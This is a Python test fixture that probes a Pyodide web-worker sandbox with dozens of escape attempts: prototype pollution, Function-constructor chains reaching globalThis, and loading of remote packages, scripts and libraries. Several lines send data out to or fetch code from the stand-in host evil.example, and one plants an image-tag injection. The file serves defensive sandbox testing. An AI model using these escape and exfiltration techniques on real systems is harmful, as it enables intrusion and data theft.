"""App code that attacks the worker it runs in. Run by worker.spec.ts.

Each attack returns something if it got through and raises (or returns None) if it did not. `main` runs those that are
asked for, in one interpreter, and reports how each ended.
"""

import json

GLOBALS = (
    "fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport Request Response Headers FormData"
    " indexedDB IDBFactory caches CacheStorage Cache cookieStore importScripts BroadcastChannel MessageChannel"
    " MessagePort postMessage close Worker SharedWorker navigator location name onmessage addEventListener"
    " dispatchEvent eval Function Blob File FileReader FileReaderSync ReadableStream WritableStream TransformStream"
    " createImageBitmap OffscreenCanvas FontFace Notification reportError trustedTypes scheduler setTimeout"
    " setInterval queueMicrotask requestAnimationFrame WebAssembly SharedArrayBuffer structuredClone URL"
    " AbortController EventTarget Event self globalThis window document localStorage sessionStorage"
).split()

#: Prototypes by a value that Python can make, and the names an attacker would plant on them.
PROTOTYPES = {
    "Object": lambda: converted({}),
    "Array": lambda: converted([1]),
    "Function": lambda: pyodide_js().runPython,
    "Promise": lambda: pyodide_js().loadPackage("").constructor.prototype,
    "Map": lambda: converted_map(),
    "Uint8Array": lambda: converted(bytearray(b"x")),
}
PLANTED = ("then", "toJSON", "get", "set", "type", "message", "snapshot", "outputs", "html", "constructor", "toString")


def pyodide_js():
    import pyodide_js

    return pyodide_js


def converted(value):
    from pyodide.ffi import to_js

    return to_js(value, dict_converter=pyodide_js().constructor.fromEntries) if value == {} else to_js(value)


def converted_map():
    from pyodide.ffi import to_js

    return to_js({"a": 1})


def prototype_of(value):
    return pyodide_js().constructor.getPrototypeOf(value)


def by_js(name):
    def attempt():
        import js

        return getattr(js, name)

    return attempt


def by_global_names(name):
    """The global object as sloppy functions see it, and as the runtime's own objects may have kept it."""

    def attempt():
        core = pyodide_js()
        for holder in (core._module, core._api, core._api.config, core._api.config.jsglobals):
            found = getattr(holder, name, None)
            if found is not None:
                return found
        return None

    return attempt


def plant(kind, name):
    """Sets a property on a built-in prototype; got through if a fresh value then has it."""

    def attempt():
        prototype = prototype_of(PROTOTYPES[kind]())
        before = getattr(prototype, name, None)
        try:
            setattr(prototype, name, "planted")
        except Exception:
            pass
        fresh = getattr(prototype_of(PROTOTYPES[kind]()), name, None)
        return True if fresh == "planted" and before != "planted" else None

    return attempt


def define(kind, name):
    """The same with Object.defineProperty."""

    def attempt():
        constructor = pyodide_js().constructor
        descriptor = constructor.new()
        descriptor.value = "planted"
        constructor.defineProperty(prototype_of(PROTOTYPES[kind]()), name, descriptor)
        return True

    return attempt


def function_from_text(route):
    def attempt():
        return route()("return globalThis")()

    return attempt


def through_then():
    """The escape that got through once: a `then` on all objects receives what a pending promise settles with."""
    prototype = prototype_of(converted({}))
    prototype.then = lambda resolve, *rest: None
    return getattr(converted({}), "then", None)


def replace_json():
    core = pyodide_js()
    holder = core._api.tests if hasattr(core._api, "tests") else None
    return holder.JSON if holder is not None else None


def assign_prototype():
    constructor = pyodide_js().constructor
    target = prototype_of(converted([]))
    constructor.setPrototypeOf(target, converted({}))
    return prototype_of(target) is not None


def prepare_stack_trace():
    try:
        pyodide_js().runPython("1/0")
    except Exception as error:
        pass
    error_class = pyodide_js()._api.PythonError
    base = prototype_of(error_class)
    base.prepareStackTrace = lambda error, trace: trace
    return base.prepareStackTrace


def run_js(text):
    def attempt():
        from pyodide.code import run_js

        return run_js(text)

    return attempt


def open_url():
    from pyodide.http import open_url

    return open_url("/robots.txt?exfil").read()


def pyfetch():
    import asyncio

    from pyodide.http import pyfetch

    return asyncio.get_event_loop().run_until_complete(pyfetch("/robots.txt?exfil"))


def urllib_request():
    import urllib.request

    return urllib.request.urlopen("https://evil.example/?exfil", timeout=2).read()


def raw_socket():
    import socket

    return socket.create_connection(("evil.example", 80), timeout=2)


def dns():
    import socket

    return socket.gethostbyname("exfil.evil.example") not in ("", None) and None


def http_client():
    import http.client

    connection = http.client.HTTPConnection("evil.example", timeout=2)
    connection.request("GET", "/exfil")
    return connection.getresponse()


def micropip():
    import micropip

    return micropip


def load_package():
    pyodide_js().loadPackage("https://evil.example/exfil.whl")
    return None


def load_package_local():
    pyodide_js().loadPackage("numpy")
    return getattr(__import__("numpy"), "array")


def idbfs():
    return pyodide_js().FS.filesystems.IDBFS.indexedDB().open("probe")


def idbfs_mount():
    core = pyodide_js()
    core.FS.mkdir("/kept")
    core.FS.mount(core.FS.filesystems.IDBFS, converted({}), "/kept")
    core.FS.syncfs(True, lambda error: None)
    return None


def workerfs():
    core = pyodide_js()
    core.FS.mount(core.FS.filesystems.WORKERFS, converted({}), "/")
    return None


def native_fs():
    pyodide_js().mountNativeFS("/native", converted({}))
    return None


def lazy_file():
    core = pyodide_js()
    core.FS.createLazyFile("/", "exfil", "https://evil.example/exfil", True, False)
    return open("/exfil").read()


def thread():
    import threading

    started = threading.Thread(target=lambda: None)
    started.start()
    return True


def process():
    import subprocess

    return subprocess.run(["echo"])


def fork():
    import os

    return os.fork()


def system():
    import os

    return True if os.system("true") == 0 else None


def forever():
    while True:
        pass


def schedule_callback():
    """Something for a later turn, which never comes: the page sees the worker end. So do the next three."""
    pyodide_js()._api.scheduleCallback(forever, 0)
    return None


def webloop_soon():
    import asyncio

    asyncio.get_event_loop().call_soon(forever)
    return None


def webloop_later():
    import asyncio

    asyncio.get_event_loop().call_later(0.01, forever)
    return None


def asyncio_task():
    import asyncio

    async def work():
        forever()

    asyncio.ensure_future(work())
    return None


def js_timer(name):
    def attempt():
        return getattr(pyodide_js()._module, name, None)

    return attempt


def wasm_constructor(name):
    def attempt():
        memory = pyodide_js()._module.wasmMemory
        return getattr(memory.constructor, name, None) if name != "new" else None

    return attempt


def wasm_compile():
    import js

    return js.WebAssembly.compile(converted(bytearray(b"\0asm\1\0\0\0")))


def convert_to_wasm():
    return pyodide_js()._module.convertJsFunctionToWasm(print, "v")


def module_post_message():
    return pyodide_js()._module.postMessage


def message_channel():
    return pyodide_js()._module.MessageChannel


def import_scripts_module():
    return pyodide_js()._api.loadScript("https://evil.example/exfil.js")


def load_binary_file():
    """Returns a promise. Whether something is fetched, the page notices."""
    pyodide_js()._api.loadBinaryFile("https://evil.example/exfil")
    return None


def set_cdn():
    pyodide_js()._api.setCdnUrl("https://evil.example/exfil/")
    pyodide_js().loadPackage("numpy")
    return None


def snapshot_again():
    """An app that could take a snapshot could hand over a poisoned one."""
    return pyodide_js().makeMemorySnapshot() and None


def dlopen():
    import ctypes

    return ctypes.CDLL("https://evil.example/exfil.so")


#: The smallest library that the runtime would load: a `dylink.0` section that asks for nothing.
OWN_LIBRARY = b"\0asm\1\0\0\0\0\x0f\x08dylink.0\1\4\0\0\0\0"


def own_library():
    """WebAssembly of the app's own, by way of the file system, as packages are loaded."""
    import ctypes

    with open("/tmp/own.so", "wb") as file:
        file.write(OWN_LIBRARY)
    return ctypes.CDLL("/tmp/own.so")


def own_library_by_loader(name):
    """A file of its own for each: the runtime takes a library that failed once for one that is loaded."""

    def attempt():
        core = pyodide_js()
        with open("/tmp/" + name + ".so", "wb") as file:
            file.write(OWN_LIBRARY)
        loader = getattr(core._module, name)
        options = core.constructor.fromEntries(converted([["global", False]]))
        if name == "loadWebAssemblyModule":
            return loader(converted(bytearray(OWN_LIBRARY)), options, "planted", converted({}))
        return loader("/tmp/" + name + ".so", options)

    return attempt


def library_exports():
    """From what compiled packages export to code from text."""
    core = pyodide_js()
    for library in core.constructor.values(core._module.LDSO.loadedLibsByName):
        for exported in core.constructor.values(library.exports):
            if getattr(exported, "constructor", None) is not None:
                return exported.constructor("return globalThis")()
    return None


def c_functions(name):
    def attempt():
        import ctypes

        return getattr(ctypes.CDLL(None), name)

    return attempt


def import_hook():
    import importlib.abc
    import sys

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            return None

    sys.meta_path.insert(0, Finder())
    import js

    return js.fetch


def register_js_module():
    core = pyodide_js()
    core.registerJsModule("trojan", core)
    import trojan

    return trojan.fetch


def unpack_archive():
    return pyodide_js().unpackArchive(converted(bytearray(b"PK")), "zip") and None


def getter_on_global():
    core = pyodide_js()
    constructor = core.constructor
    return constructor.getOwnPropertyDescriptor(core._api.config.jsglobals, "fetch").value


def sloppy_this():
    """A sloppy function called without a receiver would return the global object."""
    core = pyodide_js()
    found = core.constructor.prototype.valueOf
    return found.call(None)


def constructor_chain(depth):
    def attempt():
        found = pyodide_js()
        for _ in range(depth):
            found = found.constructor
        return found("return globalThis")()

    return attempt


def interrupt_buffer():
    pyodide_js().setInterruptBuffer(converted(bytearray(4)))
    return None


def stdin_callback():
    core = pyodide_js()
    core.setStdin(converted({}))
    return None


def error_globals():
    from pyodide.ffi import JsException

    try:
        pyodide_js().FS.readFile("/missing")
    except JsException as error:
        return error.js_error.constructor.constructor("return globalThis")()


def async_generator():
    return prototype_of(prototype_of(pyodide_js().loadPackage)).constructor("return globalThis")()


def reflect_construct():
    core = pyodide_js()
    return core.runPython.constructor.new("return globalThis")()


def proxied_apply():
    core = pyodide_js()
    return core.runPython.apply.constructor("return globalThis")()


def bound_bind():
    core = pyodide_js()
    return core.runPython.bind.constructor("return globalThis")()


def iterator_next():
    """Iteration inside the worker's own code after the run must not go through app code."""
    prototype = prototype_of(prototype_of(converted([1]).values()))
    prototype.next = lambda: None
    return True if str(prototype.next) == "<lambda>" else None


def typed_array_from():
    prototype = prototype_of(prototype_of(converted(bytearray(b"x"))))
    constructor = prototype.constructor
    setattr(constructor, "from", lambda *values: None)
    return True


def string_methods():
    core = pyodide_js()
    prototype = prototype_of(core.constructor("x"))
    prototype.replace = lambda *values: "<img src=//evil.example/exfil>"
    return True if prototype.replace is not None and "lambda" in str(prototype.replace) else None


ATTACKS = {
    **{f"js.{name}": by_js(name) for name in GLOBALS},
    **{f"{name} among the runtime's objects": by_global_names(name) for name in ("fetch", "caches", "indexedDB", "XMLHttpRequest", "WebSocket", "postMessage", "importScripts", "eval", "setTimeout", "navigator", "location", "Worker")},
    **{f"{kind}.prototype.{name} = …": plant(kind, name) for kind in PROTOTYPES for name in PLANTED},
    **{f"defineProperty({kind}.prototype, {name})": define(kind, name) for kind in PROTOTYPES for name in ("then", "toJSON")},
    **{f"{depth} constructors up": constructor_chain(depth) for depth in (2, 3, 4)},
    **{f"run_js: {text}": run_js(text) for text in ("fetch", "globalThis", "import('data:text/javascript,1')", "self.postMessage", "new Function('return 1')()", "setTimeout(()=>1)")},
    **{f"ctypes: {name}": c_functions(name) for name in ("emscripten_async_wget", "emscripten_fetch", "emscripten_idb_store", "emscripten_websocket_new", "emscripten_create_worker")},
    "then on all objects": through_then,
    "the runtime's own tests": replace_json,
    "setPrototypeOf": assign_prototype,
    "Error.prepareStackTrace": prepare_stack_trace,
    "pyodide.http.open_url": open_url,
    "pyodide.http.pyfetch": pyfetch,
    "urllib": urllib_request,
    "socket": raw_socket,
    "DNS": dns,
    "http.client": http_client,
    "micropip": micropip,
    "loadPackage by address": load_package,
    "loadPackage by name": load_package_local,
    "IDBFS": idbfs,
    "IDBFS mounted": idbfs_mount,
    "WORKERFS": workerfs,
    "native file system": native_fs,
    "a lazy file": lazy_file,
    "a thread": thread,
    "a process": process,
    "fork": fork,
    "os.system": system,
    "scheduleCallback": schedule_callback,
    "call_soon": webloop_soon,
    "call_later": webloop_later,
    "an asyncio task": asyncio_task,
    "setTimeout of the module": js_timer("setTimeout"),
    "setInterval of the module": js_timer("setInterval"),
    "WebAssembly.compile": wasm_compile,
    "a function made of WebAssembly": convert_to_wasm,
    "postMessage of the module": module_post_message,
    "MessageChannel of the module": message_channel,
    "loadScript": import_scripts_module,
    "loadBinaryFile": load_binary_file,
    "another CDN": set_cdn,
    "a second snapshot": snapshot_again,
    "a shared library by address": dlopen,
    "a library of the app's own": own_library,
    "a library of the app's own, loadDynamicLibrary": own_library_by_loader("loadDynamicLibrary"),
    "a library of the app's own, loadWebAssemblyModule": own_library_by_loader("loadWebAssemblyModule"),
    "exports of loaded libraries": library_exports,
    "an import hook": import_hook,
    "a registered module": register_js_module,
    "unpackArchive": unpack_archive,
    "a descriptor of the globals": getter_on_global,
    "this of a sloppy function": sloppy_this,
    "the interrupt buffer": interrupt_buffer,
    "stdin": stdin_callback,
    "the constructor of an error": error_globals,
    "AsyncGeneratorFunction": async_generator,
    "new on the function constructor": reflect_construct,
    "the constructor of apply": proxied_apply,
    "the constructor of bind": bound_bind,
    "iterators' next": iterator_next,
    "TypedArray.from": typed_array_from,
    "String.prototype.replace": string_methods,
}


def tried(attempt):
    try:
        result = attempt()
        return "closed: nothing there" if result is None else "open: " + str(result)[:80]
    except BaseException as error:
        return "closed: " + type(error).__name__ + ": " + str(error)[:100]


def main(inputs):
    chosen = inputs["attacks"] or list(ATTACKS)
    return {"found": json.dumps({name: tried(ATTACKS[name]) for name in chosen})}
